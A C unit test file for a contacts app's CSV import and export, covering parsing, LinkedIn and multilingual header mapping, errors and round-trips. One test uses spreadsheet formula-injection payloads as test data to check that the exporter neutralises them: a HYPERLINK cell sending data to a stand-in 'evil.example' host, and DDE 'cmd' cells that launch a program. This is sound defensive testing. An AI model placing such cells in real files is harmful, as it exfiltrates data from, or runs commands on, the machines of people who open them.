/* test-import-csv.c
 *
 * Copyright 2026 The Rapport Authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "rapport-import-private.h"
#include "test-import-helpers.h"

/* CSV {{{ */

static void
test_csv_read (void)
{
  static const char data[] =
    "\xef\xbb\xbf" "Name,Notes\r\n"
    "\r\n"
    "\"Raman, Priya\",\"She said \"\"hi\"\",\r\nthen left\"\r\n"
    "  Zoë  ,  \" padded \"\r\n"
    "last,row without newline";
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = rapport_csv_read (data, strlen (data), NULL, &error);
  RapportCsvRow *row;

  g_assert_no_error (error);
  g_assert_cmpuint (rows->len, ==, 4);

  row = g_ptr_array_index (rows, 0);
  g_assert_cmpuint (row->line, ==, 1);
  g_assert_cmpuint (row->n_fields, ==, 2);
  assert_strv ((const char * const *) row->fields, "Name", "Notes");

  row = g_ptr_array_index (rows, 1);
  g_assert_cmpuint (row->line, ==, 3);
  assert_strv ((const char * const *) row->fields, "Raman, Priya", "She said \"hi\",\r\nthen left");

  row = g_ptr_array_index (rows, 2);
  g_assert_cmpuint (row->line, ==, 5);
  assert_strv ((const char * const *) row->fields, "Zoë", " padded ");

  row = g_ptr_array_index (rows, 3);
  g_assert_cmpuint (row->line, ==, 6);
  assert_strv ((const char * const *) row->fields, "last", "row without newline");
}

static void
test_csv_linkedin (void)
{
  static const char undated[] =
    "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
    "Ana,Silva,,,,,\n";
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autofree RapportCsvField *mapping = NULL;
  g_autofree char *data = NULL;
  RapportContact *contact;
  RapportCsvRow *header;
  guint header_index = 0;
  gsize length;

  data = load_fixture ("linkedin-connections.csv", &length);
  rows = rapport_csv_read (data, length, NULL, &error);
  g_assert_no_error (error);

  /* "Notes:", the quoted note, the (skipped) blank line, then the header. */
  g_assert_true (rapport_csv_find_header (rows, &header_index));
  g_assert_cmpuint (header_index, ==, 2);
  header = g_ptr_array_index (rows, header_index);
  g_assert_cmpuint (header->line, ==, 4);
  g_assert_true (rapport_csv_is_linkedin_header (header));
  g_assert_false (rapport_csv_is_linkedin_header (g_ptr_array_index (rows, 0)));

  mapping = rapport_csv_guess_mapping (header);
  g_assert_cmpint (mapping[0], ==, RAPPORT_CSV_FIELD_GIVEN_NAME);
  g_assert_cmpint (mapping[1], ==, RAPPORT_CSV_FIELD_FAMILY_NAME);
  g_assert_cmpint (mapping[2], ==, RAPPORT_CSV_FIELD_PROFILE_URL);
  g_assert_cmpint (mapping[3], ==, RAPPORT_CSV_FIELD_EMAIL);
  g_assert_cmpint (mapping[4], ==, RAPPORT_CSV_FIELD_ORGANISATION);
  g_assert_cmpint (mapping[5], ==, RAPPORT_CSV_FIELD_ROLE);
  g_assert_cmpint (mapping[6], ==, RAPPORT_CSV_FIELD_CONNECTED_ON);

  contacts = rapport_csv_map_rows (rows, header_index, mapping, header->n_fields, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (contacts->len, ==, 3);

  contact = g_ptr_array_index (contacts, 0);
  assert_fresh (contact);
  g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, "Zoë Ødegård");
  g_assert_cmpstr (rapport_contact_get_given_name (contact), ==, "Zoë");
  g_assert_cmpstr (rapport_contact_get_family_name (contact), ==, "Ødegård");
  g_assert_cmpstr (rapport_contact_get_profile_url (contact), ==, "https://www.linkedin.com/in/zoe-odegard");
  g_assert_cmpstr (rapport_contact_get_organisation (contact), ==, "Nordlys Design AS");
  g_assert_cmpstr (rapport_contact_get_role (contact), ==, "Head of Product Design");
  g_assert_cmpstr (rapport_contact_get_source (contact), ==, "LinkedIn, connected on 12 Mar 2021");
  assert_strv (rapport_contact_get_emails (contact), "zoe.odegard@nordlys.no");

  contact = g_ptr_array_index (contacts, 1);
  g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, "李雷");
  g_assert_cmpstr (rapport_contact_get_role (contact), ==, "Senior Engineer, Cloud");
  g_assert_cmpstr (rapport_contact_get_source (contact), ==, "LinkedIn, connected on 03 Jan 2023");
  assert_empty_strv (rapport_contact_get_emails (contact));

  contact = g_ptr_array_index (contacts, 2);
  g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, "Priya Raman");
  g_assert_cmpstr (rapport_contact_get_organisation (contact), ==, "Acme, Inc.");
  g_assert_cmpstr (rapport_contact_get_role (contact), ==, "VP \"Growth\" Marketing");

  /* The one-call import finds and maps the same. */
  g_clear_pointer (&contacts, g_ptr_array_unref);
  contacts = parse_csv_fixture ("linkedin-connections.csv");
  g_assert_cmpuint (contacts->len, ==, 3);
  g_assert_cmpstr (rapport_contact_get_source (g_ptr_array_index (contacts, 2)), ==,
                   "LinkedIn, connected on 28 Feb 2024");

  /* Without a date, the source still says LinkedIn. */
  g_clear_pointer (&contacts, g_ptr_array_unref);
  contacts = rapport_csv_parse (undated, strlen (undated), NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (contacts->len, ==, 1);
  g_assert_cmpstr (rapport_contact_get_display_name (g_ptr_array_index (contacts, 0)), ==, "Ana Silva");
  g_assert_cmpstr (rapport_contact_get_source (g_ptr_array_index (contacts, 0)), ==, "LinkedIn");
}

static void
test_csv_generic (void)
{
  g_autoptr(GPtrArray) contacts = parse_csv_fixture ("generic.csv");
  RapportContact *contact;

  /* The row of empty fields is skipped. */
  g_assert_cmpuint (contacts->len, ==, 3);

  contact = g_ptr_array_index (contacts, 0);
  assert_fresh (contact);
  g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, "Zoë Ødegård");
  g_assert_cmpstr (rapport_contact_get_organisation (contact), ==, "Nordlys Design AS");
  /* "Title" is Outlook's "Ms.", as there is a "Job Title". */
  g_assert_cmpstr (rapport_contact_get_role (contact), ==, "Head of Product Design");
  g_assert_cmpstr (rapport_contact_get_profile_url (contact), ==, "https://www.linkedin.com/in/zoe-odegard");
  g_assert_cmpstr (rapport_contact_get_location (contact), ==, "Oslo, Norway");
  g_assert_cmpstr (rapport_contact_get_notes (contact), ==, "Met at GUADEC, Denver.\nFollow up in \"spring\", maybe.");
  assert_strv (rapport_contact_get_emails (contact), "zoe@nordlys.no", "zoe@example.org");
  assert_strv (rapport_contact_get_phones (contact), "+47 912 34 567");
  assert_strv (rapport_contact_get_tags (contact), "Design", "Mentors");
  g_assert_cmpint (rapport_contact_get_stage (contact), ==, RAPPORT_STAGE_MET);

  contact = g_ptr_array_index (contacts, 1);
  g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, "李雷");
  g_assert_cmpstr (rapport_contact_get_role (contact), ==, "高级工程师");
  g_assert_cmpstr (rapport_contact_get_location (contact), ==, "深圳, 中国");
  assert_strv (rapport_contact_get_phones (contact), "+86 138 0013 8000", "+86 755 8601 3388");
  assert_strv (rapport_contact_get_tags (contact), "China");
  g_assert_cmpint (rapport_contact_get_stage (contact), ==, RAPPORT_STAGE_REQUEST_SENT);

  /* Only an email address: it stands in for the name. */
  contact = g_ptr_array_index (contacts, 2);
  g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, "priya@example.in");
  assert_strv (rapport_contact_get_emails (contact), "priya@example.in");
}

static void
test_csv_guess (void)
{
  static const struct {
    const char      *header;
    RapportCsvField  field;
  } cases[] = {
    { "E-mail Address", RAPPORT_CSV_FIELD_EMAIL },
    { "E-mail 3 Address", RAPPORT_CSV_FIELD_EMAIL },
    { "E-mail 1 - Value", RAPPORT_CSV_FIELD_EMAIL },
    { "E-mail 1 - Type", RAPPORT_CSV_FIELD_IGNORE },
    { "email", RAPPORT_CSV_FIELD_EMAIL },
    { "Given Name", RAPPORT_CSV_FIELD_GIVEN_NAME },
    { "first_name", RAPPORT_CSV_FIELD_GIVEN_NAME },
    { "Surname", RAPPORT_CSV_FIELD_FAMILY_NAME },
    { "Organization", RAPPORT_CSV_FIELD_ORGANISATION },
    { "Organization 1 - Name", RAPPORT_CSV_FIELD_ORGANISATION },
    { "Organization 1 - Title", RAPPORT_CSV_FIELD_ROLE },
    { "Company", RAPPORT_CSV_FIELD_ORGANISATION },
    { "Job Title", RAPPORT_CSV_FIELD_ROLE },
    { "Phone", RAPPORT_CSV_FIELD_PHONE },
    { "Mobile Phone", RAPPORT_CSV_FIELD_PHONE },
    { "Phone 1 - Value", RAPPORT_CSV_FIELD_PHONE },
    { "Notes", RAPPORT_CSV_FIELD_NOTES },
    { "Tags", RAPPORT_CSV_FIELD_TAGS },
    { "Group Membership", RAPPORT_CSV_FIELD_TAGS },
    { "  LinkedIn URL ", RAPPORT_CSV_FIELD_PROFILE_URL },
    { "Business Country/Region", RAPPORT_CSV_FIELD_LOCATION },
    { "Vorname", RAPPORT_CSV_FIELD_GIVEN_NAME },
    { "Prénom", RAPPORT_CSV_FIELD_GIVEN_NAME },
    { "Nom", RAPPORT_CSV_FIELD_FAMILY_NAME },
    { "Courriel", RAPPORT_CSV_FIELD_EMAIL },
    { "Téléphone", RAPPORT_CSV_FIELD_PHONE },
    { "Société", RAPPORT_CSV_FIELD_ORGANISATION },
    { "Poste", RAPPORT_CSV_FIELD_ROLE },
    { "Nombre", RAPPORT_CSV_FIELD_GIVEN_NAME },
    { "Apellidos", RAPPORT_CSV_FIELD_FAMILY_NAME },
    { "Correo electrónico", RAPPORT_CSV_FIELD_EMAIL },
    { "Teléfono móvil", RAPPORT_CSV_FIELD_PHONE },
    { "Móvil", RAPPORT_CSV_FIELD_PHONE },
    { "Organización", RAPPORT_CSV_FIELD_ORGANISATION },
    { "Ubicación", RAPPORT_CSV_FIELD_LOCATION },
    { "Étiquettes", RAPPORT_CSV_FIELD_TAGS },
    { "Birthday", RAPPORT_CSV_FIELD_BIRTHDAY },
    { "Date of Birth", RAPPORT_CSV_FIELD_BIRTHDAY },
    { "Geburtstag", RAPPORT_CSV_FIELD_BIRTHDAY },
    { "Anniversary", RAPPORT_CSV_FIELD_IGNORE },
    { "", RAPPORT_CSV_FIELD_IGNORE },
  };
  char *fields[G_N_ELEMENTS (cases) + 1] = { NULL };
  RapportCsvRow header = { 1, G_N_ELEMENTS (cases), fields };
  g_autofree RapportCsvField *mapping = NULL;
  char *title_fields[] = { (char *) "Name", (char *) "Title", NULL };
  RapportCsvRow title_header = { 1, 2, title_fields };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    fields[i] = (char *) cases[i].header;

  mapping = rapport_csv_guess_mapping (&header);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_test_message ("header “%s”", cases[i].header);
      g_assert_cmpint (mapping[i], ==, cases[i].field);
    }

  /* Alone, "Title" is the job title. */
  g_clear_pointer (&mapping, g_free);
  mapping = rapport_csv_guess_mapping (&title_header);
  g_assert_cmpint (mapping[0], ==, RAPPORT_CSV_FIELD_DISPLAY_NAME);
  g_assert_cmpint (mapping[1], ==, RAPPORT_CSV_FIELD_ROLE);

  for (guint i = 0; i < RAPPORT_CSV_N_FIELDS; i++)
    g_assert_nonnull (rapport_csv_field_get_label (i));
}

static void
test_csv_errors (void)
{
  static const char trailing[] = "Name,Email\nZoë,zoe@example.org,,\n";
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) contacts = NULL;
  g_autofree char *data = NULL;
  gsize length;

  data = load_fixture ("empty.csv", &length);
  contacts = rapport_csv_parse (data, length, NULL, &error);
  g_assert_null (contacts);
  g_assert_error (error, RAPPORT_IMPORT_ERROR, RAPPORT_IMPORT_ERROR_EMPTY);
  g_clear_error (&error);
  g_clear_pointer (&data, g_free);

  data = load_fixture ("junk.bin", &length);
  contacts = rapport_csv_parse (data, length, NULL, &error);
  g_assert_null (contacts);
  assert_error_at_line (error, RAPPORT_IMPORT_ERROR_WRONG_FORMAT, 3);
  g_clear_error (&error);
  g_clear_pointer (&data, g_free);

  data = load_fixture ("latin1.csv", &length);
  contacts = rapport_csv_parse (data, length, NULL, &error);
  g_assert_null (contacts);
  assert_error_at_line (error, RAPPORT_IMPORT_ERROR_ENCODING, 3);
  g_assert_nonnull (strstr (error->message, "UTF-8"));
  g_clear_error (&error);
  g_clear_pointer (&data, g_free);

  data = load_fixture ("ragged.csv", &length);
  contacts = rapport_csv_parse (data, length, NULL, &error);
  g_assert_null (contacts);
  assert_error_at_line (error, RAPPORT_IMPORT_ERROR_RAGGED, 3);

  /* Trailing empty fields are not ragged; missing ones are. */
  g_clear_error (&error);
  contacts = rapport_csv_parse (trailing, strlen (trailing), NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (contacts->len, ==, 1);
  g_clear_pointer (&contacts, g_ptr_array_unref);
  assert_csv_error ("Name,Email\nZoë,zoe@example.org\n\nAmélie\n", RAPPORT_IMPORT_ERROR_RAGGED, 4);

  /* Quotes: a stray one, and one never closed. */
  assert_csv_error ("Name,Email\nZoë \"Z\" Ødegård,zoe@example.org\n", RAPPORT_IMPORT_ERROR_MALFORMED, 2);
  assert_csv_error ("Name,Notes\nZoë,\"never\nclosed\n", RAPPORT_IMPORT_ERROR_MALFORMED, 2);

  /* Rows that cannot make a contact. */
  assert_csv_error ("Name,Email,Company\nZoë,,\n,,Acme\n", RAPPORT_IMPORT_ERROR_INCOMPLETE, 3);
  assert_csv_error ("Name,Stage\nZoë,met\nAmélie,Interviewing\n", RAPPORT_IMPORT_ERROR_INVALID_VALUE, 3);

  /* More tags on one row than Rapport keeps (duplicates count once). */
  {
    g_autoptr(GString) row = g_string_new ("Name,Tags\nZoë,\"");

    for (guint i = 0; i <= RAPPORT_IMPORT_MAX_VALUES; i++)
      g_string_append_printf (row, "tag %u; TAG %u; ", i, i);
    g_string_append (row, "\"\n");
    assert_csv_error (row->str, RAPPORT_IMPORT_ERROR_TOO_LARGE, 2);
  }

  /* No header to guess from. */
  contacts = rapport_csv_parse ("a,b\nc,d\n", 8, NULL, &error);
  g_assert_null (contacts);
  g_assert_error (error, RAPPORT_IMPORT_ERROR, RAPPORT_IMPORT_ERROR_WRONG_FORMAT);
}

static void
test_csv_round_trip (void)
{
  g_autoptr(GPtrArray) contacts = new_sample_contacts ();
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GPtrArray) parsed = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree RapportCsvField *mapping = NULL;
  g_autofree char *text = rapport_csv_write (contacts, RAPPORT_CSV_WRITE_DEFAULT);
  g_autofree char *text_again = NULL;
  static const RapportCsvField expected[] = {
    RAPPORT_CSV_FIELD_DISPLAY_NAME, RAPPORT_CSV_FIELD_GIVEN_NAME, RAPPORT_CSV_FIELD_FAMILY_NAME,
    RAPPORT_CSV_FIELD_ORGANISATION, RAPPORT_CSV_FIELD_ROLE, RAPPORT_CSV_FIELD_EMAIL,
    RAPPORT_CSV_FIELD_PHONE, RAPPORT_CSV_FIELD_PROFILE_URL, RAPPORT_CSV_FIELD_LOCATION,
    RAPPORT_CSV_FIELD_SOURCE, RAPPORT_CSV_FIELD_TAGS, RAPPORT_CSV_FIELD_STAGE, RAPPORT_CSV_FIELD_NOTES,
    RAPPORT_CSV_FIELD_BIRTHDAY,
  };
  RapportCsvRow *header;
  guint header_index = 99;

  g_assert_true (g_str_has_prefix (text, "\xef\xbb\xbf" "Name,Given Name,Family Name,Organisation,Role,Emails,"
                                         "Phones,Profile URL,Location,Source,Tags,Stage,Notes,Birthday\r\n"));
  g_assert_nonnull (strstr (text, "zoe.odegard@nordlys.no; zoe@example.org"));

  rows = rapport_csv_read (text, strlen (text), NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (rows->len, ==, contacts->len + 1);
  g_assert_true (rapport_csv_find_header (rows, &header_index));
  g_assert_cmpuint (header_index, ==, 0);

  header = g_ptr_array_index (rows, 0);
  mapping = rapport_csv_guess_mapping (header);
  g_assert_cmpuint (header->n_fields, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    g_assert_cmpint (mapping[i], ==, expected[i]);

  parsed = rapport_csv_map_rows (rows, header_index, mapping, header->n_fields, NULL, &error);
  g_assert_no_error (error);
  assert_contacts_equal (contacts, parsed, FALSE);

  text_again = rapport_csv_write (parsed, RAPPORT_CSV_WRITE_DEFAULT);
  g_assert_cmpstr (text_again, ==, text);
}

/* Cells a spreadsheet would run, as a stranger's LinkedIn file may bring
 * them: exported behind an apostrophe, and read back without it. */
static void
test_csv_formulas (void)
{
  static const char *hostile[][3] = {
    /* name, organisation, notes */
    { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0" },
    { "-2+3", "'=already quoted", "'plain apostrophe" },
    { "Zoë Ødegård", "Nordlys", "\tTabbed" },
  };
  g_autoptr(GPtrArray) contacts = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(GPtrArray) parsed = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *guarded = NULL;
  g_autofree char *verbatim = NULL;
  const char *phones[] = { "+44 20 7946 0958", NULL };

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      RapportContact *contact = rapport_contact_new ();

      rapport_contact_set_display_name (contact, hostile[i][0]);
      rapport_contact_set_organisation (contact, hostile[i][1]);
      rapport_contact_set_notes (contact, hostile[i][2]);
      rapport_contact_set_phones (contact, phones);
      g_ptr_array_add (contacts, contact);
    }

  guarded = rapport_csv_write (contacts, RAPPORT_CSV_WRITE_DEFAULT);
  g_assert_nonnull (strstr (guarded, "\r\n\"'=HYPERLINK(\"\"http"));
  g_assert_nonnull (strstr (guarded, ",'+cmd|' /C calc'!A0,"));
  /* the notes, then an empty birthday */
  g_assert_nonnull (strstr (guarded, ",'@SUM(1+1)*cmd|'/C calc'!A0,\r\n"));
  g_assert_nonnull (strstr (guarded, "\r\n'-2+3,"));
  g_assert_nonnull (strstr (guarded, ",''=already quoted,"));
  g_assert_nonnull (strstr (guarded, "'+44 20 7946 0958"));   /* a spreadsheet shows it as typed */
  g_assert_nonnull (strstr (guarded, "\r\nZoë Ødegård,"));   /* nothing else changes */

  /* No cell of the file begins with a character that starts a formula. */
  {
    g_autoptr(GPtrArray) rows = rapport_csv_read (guarded, strlen (guarded), NULL, &error);

    g_assert_no_error (error);
    for (guint r = 0; r < rows->len; r++)
      {
        RapportCsvRow *row = g_ptr_array_index (rows, r);

        for (guint f = 0; f < row->n_fields; f++)
          g_assert_null (strchr ("=+-@\t\r", row->fields[f][0] != '\0' ? row->fields[f][0] : 'x'));
      }
  }

  parsed = rapport_csv_parse (guarded, strlen (guarded), NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (parsed->len, ==, G_N_ELEMENTS (hostile));
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      RapportContact *contact = g_ptr_array_index (parsed, i);

      g_assert_cmpstr (rapport_contact_get_display_name (contact), ==, hostile[i][0]);
      g_assert_cmpstr (rapport_contact_get_organisation (contact), ==, hostile[i][1]);
      g_assert_cmpstr (rapport_contact_get_phones (contact)[0], ==, phones[0]);
    }
  g_assert_cmpstr (rapport_contact_get_notes (g_ptr_array_index (parsed, 0)), ==, hostile[0][2]);
  g_assert_cmpstr (rapport_contact_get_notes (g_ptr_array_index (parsed, 1)), ==, hostile[1][2]);

  /* For tools that evaluate nothing: every cell as it is. */
  verbatim = rapport_csv_write (contacts, RAPPORT_CSV_WRITE_VERBATIM);
  g_assert_nonnull (strstr (verbatim, "\r\n\"=HYPERLINK("));
  g_assert_nonnull (strstr (verbatim, ",+44 20 7946 0958,"));
}

/* }}} */

void
add_csv_tests (void)
{
  g_test_add_func ("/import/csv/read", test_csv_read);
  g_test_add_func ("/import/csv/linkedin", test_csv_linkedin);
  g_test_add_func ("/import/csv/generic", test_csv_generic);
  g_test_add_func ("/import/csv/guess", test_csv_guess);
  g_test_add_func ("/import/csv/errors", test_csv_errors);
  g_test_add_func ("/import/csv/write/round-trip", test_csv_round_trip);
  g_test_add_func ("/import/csv/write/formulas", test_csv_formulas);
}
